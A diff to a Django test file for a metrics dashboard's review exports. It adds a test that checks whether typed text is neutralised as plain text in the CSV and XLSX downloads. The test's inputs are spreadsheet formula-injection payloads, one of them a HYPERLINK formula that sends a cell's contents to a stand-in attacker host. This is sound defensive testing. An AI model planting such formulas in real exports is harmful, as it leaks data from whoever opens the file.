@@ -1,5 +1,6 @@
 """Dashboard, drill-down, monthly review and its exports."""
 
+import csv
 from datetime import datetime, timedelta
 from io import BytesIO
 
@@ -7,6 +8,7 @@ import pytest
 from django.template import Context, Template
 from django.urls import reverse
 
+from metrics.exports import cell
 from metrics.probability import Band, success_probability
 from metrics.services import review_action_add
 
@@ -80,9 +82,9 @@ def test_review_actions_are_added_from_the_page(org, february, client_as):
 
 def test_review_downloads_as_csv_and_xlsx(org, february, client_as):
     client = client_as(org.manager1)
-    csv = client.get("/metrics/review/?month=2026-02&format=csv")
-    assert csv["Content-Type"].startswith("text/csv")
-    assert "60.0" in csv.content.decode("utf-8-sig")
+    answer = client.get("/metrics/review/?month=2026-02&format=csv")
+    assert answer["Content-Type"].startswith("text/csv")
+    assert "60.0" in answer.content.decode("utf-8-sig")
     openpyxl = pytest.importorskip("openpyxl")
     xlsx = client.get("/metrics/review/?month=2026-02&format=xlsx")
     sheet = openpyxl.load_workbook(BytesIO(xlsx.content)).active
@@ -130,3 +132,24 @@ def test_template_tag_renders_the_chance_on_an_open_case(org, february):
         Context({"case": february.c6}))
     assert "&lt;10%" in html  # waiting since 11 February
     assert NOW > february.c6.triggered_at
+
+
+@pytest.mark.parametrize("typed", ['=HYPERLINK("http://evil.example/?x="&A1,"详情")',
+                                   "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"])
+def test_review_exports_never_carry_a_live_formula(org, february, client_as, typed):
+    """Issue 15 §5: a text people type is written as text in the CSV and the XLSX."""
+    client = client_as(org.manager1)
+    assert client.post("/metrics/review/?month=2026-02", {
+        "action": typed, "owner": org.advisor1.pk, "due": "2026-03-31"}).status_code == 302
+    csv_text = client.get("/metrics/review/?month=2026-02&format=csv").content.decode("utf-8-sig")
+    stored = "'" + typed.strip()  # the form trims the tab or line break in front
+    cells = [c for row in csv.reader(csv_text.splitlines()) for c in row]
+    assert stored in cells
+    assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells)
+    openpyxl = pytest.importorskip("openpyxl")
+    sheet = openpyxl.load_workbook(
+        BytesIO(client.get("/metrics/review/?month=2026-02&format=xlsx").content)).active
+    values = [c.value for row in sheet.iter_rows() for c in row]
+    assert stored in values
+    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
+    assert cell(typed) == "'" + typed
